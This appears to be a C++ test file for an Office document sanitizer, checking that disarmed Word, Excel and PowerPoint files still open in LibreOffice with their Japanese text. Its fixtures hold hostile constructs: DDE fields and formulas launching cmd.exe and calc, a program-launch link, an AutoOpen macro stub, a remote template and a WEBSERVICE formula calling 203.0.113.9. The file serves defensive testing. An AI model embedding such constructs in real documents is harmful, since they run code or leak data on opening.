// Fidelity: rebuilt documents open in LibreOffice (headless, one batched run) and still show their
// text, Japanese included, and their safe cell values and formulas.
#include "ooxml_support.hpp"

using namespace mugaika;
using namespace mugaika::test;
using namespace mugaika::test::ooxml;

TEST_CASE("ooxml: rebuilt Word, Excel and PowerPoint files open in LibreOffice with their text") {
    if (!soffice_available()) {
        MESSAGE("soffice not installed (scripts/install-deps.sh --test): LibreOffice fidelity check skipped");
        return;
    }
    Docx d;
    d.main_type = "application/vnd.ms-word.document.macroEnabled.main+xml";
    d.body = "<w:p><w:r><w:t>住民税の申告について</w:t></w:r></w:p>"
             R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>令和六年度</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)"
             R"(<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>市のホームページ</w:t></w:r></w:hyperlink></w:p>)";
    d.doc_rels = rel("rIdWeb", "hyperlink", "https://www.city.example.lg.jp/", true) +
                 rel("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin");
    d.types = {{"/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"}};
    d.parts = {{"word/vbaProject.bin", make_cfb({{"VBA", "Sub AutoOpen()"}})}};

    Xlsx x;
    x.main_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
    x.sheets.push_back({"予算", "worksheet", "",
                        R"(<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>1200</v></c></row>)"
                        R"(<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2"><v>3400</v></c></row>)"
                        R"(<row r="3"><c r="A3" t="s"><v>2</v></c><c r="B3"><f>SUM(B1:B2)</f><v>4600</v></c></row>)"
                        R"(<row r="4"><c r="A4"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData>)",
                        ""});
    x.shared_strings = "<si><t>人件費</t></si><si><t>物件費</t></si><si><t>合計額</t></si>";

    Pptx p;
    p.slides.push_back({Pptx::text_shape(2, "防災訓練のお知らせ", R"(<a:hlinkClick r:id="rIdProg" action="ppaction://program"/>)"),
                        rel("rIdProg", "hyperlink", "calc.exe", true)});

    TempDir work;
    std::vector<std::filesystem::path> outputs;
    for (auto [bytes, name] : {std::pair{d.build(), std::string("fidelity-word.docm")},
                               std::pair{x.build(), std::string("fidelity-book.xlsm")},
                               std::pair{p.build(), std::string("fidelity-deck.pptx")}}) {
        Outcome o = sanitize(bytes, name);
        REQUIRE_MESSAGE(o.verdict == Verdict::disarmed, name, " ", o.reason, " ", o.reason_detail);
        auto path = work / o.outputs[0].name;
        write_file(path, o.outputs[0].bytes);
        CHECK(residual_constructs(path).empty());
        outputs.push_back(path);
    }
    auto text = libreoffice_text(work, outputs);
    std::string word = text["fidelity-word"], book = text["fidelity-book"], deck = text["fidelity-deck"];
    CHECK_MESSAGE(word.find("住民税の申告について") != std::string::npos, word);
    CHECK(word.find("令和六年度") != std::string::npos);        // the DDE field's last result
    CHECK(word.find("市のホームページ") != std::string::npos);
    CHECK_MESSAGE(book.find("人件費") != std::string::npos, book);
    CHECK(book.find("合計額") != std::string::npos);
    CHECK(book.find("4600") != std::string::npos);              // SUM kept (LibreOffice recomputes it)
    CHECK_MESSAGE(deck.find("防災訓練のお知らせ") != std::string::npos, deck);
    // The safe formula is still a formula in the rebuilt sheet.
    Unzipped z(read_whole(work / "fidelity-book.xlsx"));
    CHECK(z.part("xl/worksheets/sheet1.xml").find("<f>SUM(B1:B2)</f>") != std::string::npos);
}

TEST_CASE("ooxml: packages rebuilt from issue-11 attacks (smuggled rels, nested fields, markup compatibility, formulas) open in LibreOffice") {
    if (!soffice_available()) {
        MESSAGE("soffice not installed (scripts/install-deps.sh --test): LibreOffice fidelity check skipped");
        return;
    }
    const std::string mc = "http://schemas.openxmlformats.org/markup-compatibility/2006";
    Docx d;
    d.body = "<w:p><w:r><w:t>公文書の本文</w:t></w:r></w:p>"
             "<w:p xmlns:mc=\"" + mc + "\" xmlns:wps=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\">"
             "<mc:AlternateContent><mc:Choice Requires=\"wps\"><w:r><w:t>選ばれた枝</w:t></w:r></mc:Choice>"
             "<mc:Fallback><w:r><w:t>代替の枝</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>"
             R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DOCPROPERTY x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>入れ子の結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
    d.doc_rels = rel("rIdS", "styles", "_rels/settings.xml.rels");
    d.types = {{"/word/_rels/settings.xml.rels", CT + "wordprocessingml.styles+xml"}};
    d.settings = "<w:zoom w:percent=\"100\"/>";
    d.parts = {{"word/_rels/settings.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
                                                    rel("rIdT", "attachedTemplate", "http://203.0.113.9/t.dotm", true) + "</Relationships>"}};

    Xlsx x;
    x.sheets.push_back({"集計", "worksheet", "",
                        R"(<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><f>_xlfn.WEBSERVICE("http://203.0.113.9/"&amp;A1)</f><v>4242</v></c>)"
                        R"(<c r="C1"><f>HYPERLINK(CHAR(92)&amp;CHAR(92)&amp;"203.0.113.9\s","開く")</f><v>0</v></c><c r="D1"><f>'集計'!B1*2</f><v>8484</v></c></row></sheetData>)",
                        ""});
    x.shared_strings = "<si><t>項目名</t></si>";

    Pptx p;
    p.slides.push_back({Pptx::text_shape(2, "防災計画") +
                            "<mc:AlternateContent xmlns:mc=\"" + mc + "\" xmlns:v=\"urn:schemas-microsoft-com:vml\"><mc:Choice Requires=\"v\">" +
                            Pptx::text_shape(3, "選択肢の図形") + "</mc:Choice><mc:Fallback>" + Pptx::text_shape(4, "代替の図形") +
                            "</mc:Fallback></mc:AlternateContent>",
                        ""});

    TempDir work;
    std::vector<std::filesystem::path> outputs;
    for (auto [bytes, name] : {std::pair{d.build(), std::string("issue11-word.docx")},
                               std::pair{x.build(), std::string("issue11-book.xlsx")},
                               std::pair{p.build(), std::string("issue11-deck.pptx")}}) {
        Outcome o = sanitize(bytes, name);
        auto j = checked_package(o);
        auto path = work / o.outputs[0].name;
        write_file(path, o.outputs[0].bytes);
        CHECK(residual_constructs(path).empty());
        outputs.push_back(path);
    }
    auto text = libreoffice_text(work, outputs);
    std::string word = text["issue11-word"], book = text["issue11-book"], deck = text["issue11-deck"];
    CHECK_MESSAGE(word.find("公文書の本文") != std::string::npos, word);
    CHECK(word.find("選ばれた枝") != std::string::npos);
    CHECK(word.find("代替の枝") == std::string::npos);
    CHECK(word.find("入れ子の結果") != std::string::npos);
    CHECK(word.find("DDEAUTO") == std::string::npos);
    CHECK_MESSAGE(book.find("項目名") != std::string::npos, book);
    CHECK(book.find("4242") != std::string::npos);   // the dropped formula's displayed value
    CHECK(book.find("8484") != std::string::npos);   // the kept formula, recomputed
    CHECK_MESSAGE(deck.find("防災計画") != std::string::npos, deck);
    CHECK(deck.find("代替の図形") != std::string::npos);   // Requires="v" is not understood: Fallback
    CHECK(deck.find("選択肢の図形") == std::string::npos);
}
